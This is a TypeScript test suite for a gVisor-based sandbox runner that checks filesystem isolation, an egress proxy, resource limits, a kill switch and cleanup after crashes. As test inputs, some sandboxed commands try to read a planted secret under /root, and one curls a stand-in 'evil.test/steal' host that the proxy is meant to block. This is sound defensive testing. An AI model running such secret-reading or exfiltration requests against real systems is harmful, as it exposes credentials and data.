// The gVisor runner: the bubblewrap runner's guarantees under runsc, and nothing left after a run ends
// (normal exit, timeout, kill-switch kill, Warden crash).
import { spawn } from "node:child_process";
import { randomBytes } from "node:crypto";
import { chownSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { EgressProxy, GvisorRunner, KillSwitch } from "../../src/sandbox/index.js";
import { onCleanup, tempDir } from "../helpers.js";
import { alive, cmdlinesHolding, fixedLookup, localServer, until } from "./fixtures.js";

const available = GvisorRunner.available();
if (!available) console.warn("runsc (run as root) or socat is missing: the gVisor tests are skipped");

const root = new URL("../../", import.meta.url).pathname;

/** Pids of runsc processes (runsc, its gofer and sandbox) whose command line names `text`. */
function runscProcesses(text: string): number[] {
  const found: number[] = [];
  for (const name of readdirSync("/proc")) {
    if (!/^\d+$/.test(name)) continue;
    try {
      const cmd = readFileSync(`/proc/${name}/cmdline`, "utf8");
      if (cmd.includes("runsc") && cmd.includes(text) && alive(Number(name))) found.push(Number(name));
    } catch {}
  }
  return found;
}

/** The run folders (bundle and runsc state) under `workRoot`. */
function runFolders(workRoot: string): string[] {
  return readdirSync(workRoot).filter((n) => n.startsWith("warden-gvisor-"));
}

describe.skipIf(!available)("GvisorRunner", () => {
  it("reads /usr, cannot see /root or the Warden folder, writes only to /work and /tmp, keeps env off command lines", async () => {
    const secret = join("/root", `warden-gvisor-secret-${process.pid}`);
    writeFileSync(secret, "top secret");
    onCleanup(() => rmSync(secret, { force: true }));
    const token = `tok-${randomBytes(16).toString("hex")}`;
    const workRoot = tempDir();
    const runner = new GvisorRunner({ workRoot });
    const run = runner.start({
      command: [
        "sh",
        "-c",
        [
          "head -c 20 /usr/lib/os-release >/dev/null && echo usr-ok",
          `cat ${secret} 2>/dev/null && echo secret-read`,
          `cat ${join(root, "package.json")} >/dev/null 2>&1 && echo repo-read`,
          "touch /usr/x /etc/x /x 2>/dev/null && echo outside-written",
          "echo hi > /work/out.txt && echo work-ok",
          "echo t > /tmp/t && echo tmp-ok",
          "id -u",
          '[ "$API_TOKEN" = "$EXPECTED" ] || echo token-missing',
          "read line; echo $line",
        ].join("\n"),
      ],
      env: { API_TOKEN: token, EXPECTED: token },
      stdin: "from stdin\n",
    });
    // While it runs, no process on the machine carries the token in its command line.
    expect(cmdlinesHolding(token)).toEqual([]);
    const r = await run.done;
    expect(r.stderr).toBe("");
    expect(r.stdout.trim().split("\n")).toEqual(["usr-ok", "work-ok", "tmp-ok", "65534", "from stdin"]);
    expect(r.exitCode).toBe(0);
    expect(runFolders(workRoot)).toEqual([]);
  });

  it("has no network but the egress proxy: an allowed host is reached, others refused", async () => {
    const server = await localServer();
    const socketPath = join(tempDir(), "proxy.sock");
    const proxy = new EgressProxy({
      allow: ["allowed.test:*"],
      lookup: fixedLookup({ "allowed.test": "127.0.0.1", "evil.test": "127.0.0.1" }),
      listen: { socketPath },
    });
    await proxy.start();
    onCleanup(() => proxy.close());
    const r = await new GvisorRunner({ proxySocket: socketPath }).run({
      command: [
        "sh",
        "-c",
        [
          `curl -sS http://allowed.test:${server.port}/in; echo`,
          `curl -s -o /dev/null -w '%{http_code}\\n' http://evil.test:${server.port}/`,
          `curl -s --max-time 2 --noproxy '*' http://127.0.0.1:${server.port}/direct || echo no-route`,
        ].join("\n"),
      ],
    });
    expect(r.stdout).toBe("ok /in\n403\nno-route\n");
    expect(server.seen.map((s) => s.url)).toEqual(["/in"]);
    expect(proxy.violations).toBe(1);
  });

  it("enforces the timeout, memory and output limits and leaves no runsc process or state behind", async () => {
    const workRoot = tempDir();
    const runner = new GvisorRunner({ workRoot });
    const timeout = runner.start({
      command: ["sh", "-c", "sleep 30 & sleep 30"],
      limits: { timeoutMs: 1500 },
    });
    const timedOut = await timeout.done;
    expect(timedOut.killed).toBe("timeout");
    const memory = await runner.run({
      command: ["python3", "-c", "b = bytearray(300 * 1024 * 1024); print('allocated')"],
      limits: { memoryBytes: 128 * 1024 * 1024 },
    });
    expect(memory.stdout).not.toContain("allocated");
    expect(memory.exitCode).not.toBe(0);
    const output = await runner.run({ command: ["sh", "-c", "yes"], limits: { maxOutputBytes: 1000 } });
    expect(output).toMatchObject({ killed: "output_limit", truncated: true });
    expect(output.stdout).toHaveLength(1000);
    expect(await until(() => runscProcesses(workRoot).length === 0, 5000)).toBe(true);
    expect(runFolders(workRoot)).toEqual([]);
  });

  it("a kill-switch kill ends the whole sandbox at once and leaves nothing", async () => {
    const server = await localServer();
    const workRoot = tempDir();
    const socketPath = join(tempDir(), "proxy.sock");
    const runner = new GvisorRunner({ workRoot, proxySocket: socketPath });
    const ks = new KillSwitch({
      session: "ses_1",
      tool: "run_code",
      policy: "kill-session",
      target: runner,
      record: () => undefined,
      endSession: () => undefined,
    });
    const proxy = new EgressProxy({
      allow: ["allowed.test:*"],
      lookup: fixedLookup({ "allowed.test": "127.0.0.1", "evil.test": "127.0.0.1" }),
      listen: { socketPath },
      onViolation: ks.onViolation,
    });
    await proxy.start();
    onCleanup(() => proxy.close());
    const result = await runner.run({
      command: ["sh", "-c", `sleep 30 & curl -s http://evil.test:${server.port}/steal; sleep 30`],
      limits: { timeoutMs: 20_000 },
    });
    expect(result.killed).toBe("violation");
    expect(server.seen).toHaveLength(0);
    expect(await until(() => runscProcesses(workRoot).length === 0, 5000)).toBe(true);
    expect(runFolders(workRoot)).toEqual([]);
  });

  it("a crashed Warden takes its runs with it, and the next start removes what is left on disk", async () => {
    const dist = join(root, "dist/sandbox/index.js");
    expect(existsSync(dist), "run `npm run build` first").toBe(true);
    const workRoot = tempDir();
    const script = `
      const { GvisorRunner } = await import(${JSON.stringify(dist)});
      new GvisorRunner({ workRoot: ${JSON.stringify(workRoot)} }).start({ command: ["sh", "-c", "touch /work/started; sleep 60"], workDir: ${JSON.stringify(workRoot)} + "/work" });
    `;
    mkdirSync(join(workRoot, "work"));
    chownSync(join(workRoot, "work"), 65534, 65534);
    const warden = spawn(process.execPath, ["--input-type=module", "-e", script], { stdio: "ignore" });
    onCleanup(() => void warden.kill("SIGKILL"));
    expect(await until(() => existsSync(join(workRoot, "work", "started")), 20_000)).toBe(true);
    expect(runscProcesses(workRoot).length).toBeGreaterThan(0);
    const exited = new Promise((r) => warden.once("exit", r));
    warden.kill("SIGKILL");
    await exited;
    expect(await until(() => runscProcesses(workRoot).length === 0, 5000)).toBe(true);
    expect(runFolders(workRoot)).toHaveLength(1);
    expect(GvisorRunner.cleanLeftovers({ workRoot })).toBe(1);
    expect(runFolders(workRoot)).toEqual([]);
  });
});
